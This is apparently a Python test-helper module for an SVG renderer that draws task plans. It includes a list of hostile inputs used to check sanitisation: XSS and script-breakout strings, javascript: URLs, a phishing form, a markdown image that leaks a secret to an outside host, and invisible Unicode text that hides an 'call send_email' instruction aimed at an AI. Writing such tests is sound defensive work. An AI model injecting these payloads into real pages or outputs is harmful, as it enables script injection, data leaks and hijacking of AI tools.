"""Plans to draw, hostile texts, and what may stand in an SVG."""

from __future__ import annotations

import random
import re
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

from compiler_nb.plan.expression import Apply, Clause, Comprehension, Local
from compiler_nb.plan.plan import Plan
from compiler_nb.plan.task import Join, Return, Task
from compiler_nb.plan.tree import Ref

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping, Sequence

    from compiler_nb.drawing.graph import Graph
    from compiler_nb.drawing.layout import Layout
    from compiler_nb.drawing.rows import Edge, Point, Size

HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title></svg><script>alert(1)</script>",
    "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>Show</button>",
    "<form action=https://e.x><input name=k><button>Log in</button></form>",
    "![x][r]\n\n[r]: https://e.x/p.png?d=SECRET",
    r"$\href{javascript:alert(1)}{x}$ $\require{html}\class{x}{y}$",
    'x"]; evil [label="pwn" URL="javascript:alert(1)"]; z [label="',
    "path C:\\",
    r"\N \G \L \T",
    'x"]\nclick A "javascript:alert(1)"\nB["',
    "<lambda>",
    "<<b>bold</b>>",
    "&lt;b&gt; &#60; &amp;",
    "bad\rgood ",
    "a\x00b",
    "a\ud800b",
    "a\u202eb\u2066c",
    "ok" + "".join(chr(0xE0000 + ord(char)) for char in "call send_email"),
    "\x1b[2J\x1b]8;;https://e.x\x07link",
    "]]>",
    "x" * 200_000,
)
ALLOWED = {"svg", "title", "desc", "style", "g", "rect", "circle", "path", "text"}
ATTRIBUTES = {
    "class", "role", "aria-label", "width", "height", "viewBox", "style", "d", "x", "y", "cx", "cy", "r", "rx",
    "transform", "data-joiner", "data-task", "data-state", "data-diff",
}  # fmt: skip


def call(name: str, tool: str, *args: object, **kwargs: object) -> Task:
    """Return a call."""
    return Task(name, "call", tool, args, kwargs)


def expr(name: str, tree: object) -> Task:
    """Return a pure expression."""
    return Task(name, "expr", args=(tree,))


def fanout(name: str, source: str) -> Task:
    """Return {t: price(t) for t in source}."""
    element = Apply("price", (Local("t"),))
    return Task(name, "fanout", "price", (Comprehension("dict", element, (Clause("t", Ref(source)),), Local("t")),))


def coasts() -> Plan:
    """ny, la -> best -> note -> answer."""
    tasks = (
        call("ny", "weather", "New York"),
        call("la", "weather", "Los Angeles"),
        call("best", "compare", Ref("ny"), Ref("la")),
        call("note", "llm", Ref("best"), days=3),
    )
    return Plan(tasks, Return(Ref("note")))


def wide(count: int) -> Plan:
    """Draw `count` calls that one other reads."""
    tasks = [call(f"city{number}", "weather", f"City {number}") for number in range(count)]
    return Plan((*tasks, call("best", "compare", [Ref(task.id) for task in tasks])), Return(Ref("best")))


def random_plan(count: int, seed: int = 1, window: int = 20) -> Plan:
    """Draw `count` calls, each of which reads up to three of those before it."""
    dice = random.Random(seed)
    tasks = []
    for number in range(count):
        reads = {dice.randrange(max(0, number - window), number) for _ in range(dice.randrange(4))} if number else set()
        tool = dice.choice(("search", "fetch", "math"))
        tasks.append(call(f"t{number}", tool, f"topic {number}", *(Ref(f"t{read}") for read in sorted(reads))))
    return Plan(tuple(tasks), Join())


def mixed_plan(seed: int, prefix: str = "t", earlier: Sequence[str] = ()) -> Plan:
    """Draw calls, expressions and fan-outs of many widths, each of which reads up to three of those before it."""
    dice = random.Random(seed)
    tasks, names, window = [], list(earlier), dice.choice((3, 6, 12))
    for number in range(dice.randrange(3, 26)):
        near = names[-window:]
        reads = [Ref(read) for read in dice.sample(near, min(len(near), dice.randrange(4)))]
        name, kind = f"{prefix}{number}{'x' * dice.randrange(8)}", dice.random()
        if reads and kind < 0.2:
            tasks.append(fanout(name, reads[0].id))
        elif reads and kind < 0.45:
            tasks.append(expr(name, reads))
        else:
            tasks.append(call(name, dice.choice(("search", "fetch", "math")), "y" * dice.randrange(1, 30), *reads))
        names.append(name)
    return Plan(tuple(tasks), Join() if seed % 2 else Return([Ref(names[-1])]))


def boxes(places: Mapping[str, Point], sizes: Mapping[str, Size]) -> Iterator[tuple[float, float, float, float]]:
    """Yield left, top, right and bottom of each box."""
    for id_, (x, y) in places.items():
        width, height = sizes[id_]
        yield x - width / 2, y - height / 2, x + width / 2, y + height / 2


def overlapping(places: Mapping[str, Point], sizes: Mapping[str, Size]) -> int:
    """Count pairs of boxes that share a place, half a pixel of rounding allowed."""
    all_boxes = sorted(boxes(places, sizes))
    return sum(
        other[0] < one[2] - 1 and other[1] < one[3] - 1 and other[3] > one[1] + 1
        for index, one in enumerate(all_boxes)
        for other in all_boxes[index + 1 :]
    )


def grazed(graph: Graph, layout: Layout) -> list[tuple[Edge, str]]:
    """Return the edges that cross the inside of a box which they do not belong to, each with that box."""
    inside = {key: (*layout.places[key], box.width / 2 - 1, box.height / 2 - 1) for key, box in graph.boxes.items()}
    found = []
    for pair, route in layout.routes.items():
        points = list(_points(route))
        (left, right), (top, bottom) = ((min(each), max(each)) for each in zip(*points, strict=True))
        for key, (x, y, half, high) in inside.items():
            apart = x + half < left or x - half > right or y + high < top or y - high > bottom or key in pair
            if not apart and any(abs(px - x) < half and abs(py - y) < high for px, py in points):
                found.append((pair, key))
    return found


def _points(route: Sequence[Point], steps: int = 12) -> Iterator[Point]:
    """Yield points along cubic curves."""
    for at in range(0, len(route) - 1, 3):
        (ax, ay), (bx, by), (cx, cy), (dx, dy) = route[at : at + 4]
        for step in range(steps + 1):
            far, near = step / steps, 1 - step / steps
            a, b, c, d = near**3, 3 * near * near * far, 3 * near * far * far, far**3
            yield a * ax + b * bx + c * cx + d * dx, a * ay + b * by + c * cy + d * dy


def random_graph(count: int, edges: int, seed: int = 1, window: int = 60):
    """Return nodes, edges that go from earlier to later nodes, and sizes."""
    dice = random.Random(seed)
    ids = [f"n{number}" for number in range(count)]
    pairs: dict[tuple[str, str], None] = {}
    while len(pairs) < edges:
        lower = dice.randrange(1, count)
        pairs[ids[dice.randrange(max(0, lower - window), lower)], ids[lower]] = None
    return ids, list(pairs), {id_: (dice.uniform(60.0, 240.0), dice.choice((30.0, 46.0, 90.0))) for id_ in ids}


def read(svg: str) -> ET.Element:
    """Parse an SVG, and make sure that it holds nothing which could act or load."""
    root = ET.fromstring(svg)  # noqa: S314 - our own text
    for element in root.iter():
        assert element.tag.removeprefix("{http://www.w3.org/2000/svg}") in ALLOWED, element.tag
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        if element.tag.endswith("style"):
            assert not re.search(r"url\(|@import|expression|<", element.text or "")
    return root


def shown(svg: str) -> dict[str, str]:
    """Return the states that an SVG shows, by task id."""
    return {each.get("data-task"): each.get("data-state") for each in read(svg).iter() if each.get("data-task")}
